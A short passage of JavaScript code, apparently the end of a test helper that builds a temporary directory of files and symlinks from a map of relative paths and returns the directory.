    const file = path.join(dir, rel);
    await mkdir(path.dirname(file), { recursive: true });
    if (typeof content === 'string') await writeFile(file, content);
    else await symlink(content.symlinkTo, file);
  }
  return dir;
}
